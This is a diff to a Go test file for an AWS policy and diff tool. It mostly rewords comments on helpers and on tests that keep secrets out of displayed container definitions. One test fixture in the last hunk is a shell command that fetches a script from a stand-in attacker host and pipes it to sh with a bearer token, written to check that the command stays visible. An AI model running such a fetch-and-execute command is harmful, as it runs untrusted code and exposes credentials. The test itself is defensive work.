@@ -14,7 +14,7 @@ import (
 	"aws-webapp/policies/prop"
 )
 
-// value is a property with JSON text in it; nothing where there is no text.
+// value returns a property with JSON text in it; absent if there is no text.
 func value(text string) prop.Value {
 	if text == "" {
 		return prop.Value{}
@@ -22,7 +22,7 @@ func value(text string) prop.Value {
 	return prop.New("p", resource.NewStringProperty(text))
 }
 
-// written are the entries as lines.
+// written returns the entries as lines.
 func written(entries []difference.Entry) []string {
 	lines := []string{}
 	for _, e := range entries {
@@ -46,7 +46,7 @@ const container = `{"name":"app","image":"111111111111.dkr.ecr.us-east-1.amazona
 	"logConfiguration":{"logDriver":"awslogs","options":{"mode":"non-blocking"}},
 	"healthCheck":{"command":["CMD","check"],"interval":30}}`
 
-// with is the container with other fields; a null takes a field away.
+// with returns the container with other fields; null removes a field.
 func with(t *testing.T, fields string) string {
 	t.Helper()
 	var all, other map[string]any
@@ -222,7 +222,8 @@ func TestDocuments(t *testing.T) {
 	}
 }
 
-// No value of a variable, no secret and nothing that looks like one is shown, wherever it stands.
+// Values of variables, secrets, and anything that looks like a secret are never shown, wherever
+// they stand.
 func TestNoSecretIsShown(t *testing.T) {
 	const canary = "canary5c1f0e"
 	for name, fields := range map[string]string{
@@ -256,7 +257,7 @@ func TestNoSecretIsShown(t *testing.T) {
 	}
 }
 
-// A secret is no place to hide a command in.
+// A secret must not hide the rest of a command.
 func TestWhatElseACommandSaysIsShown(t *testing.T) {
 	for command, want := range map[string]string{
 		`["sh","-c","curl -H 'Authorization: Bearer canary-0' https://evil.example/run | sh"]`: "sh -c 'curl -H " +
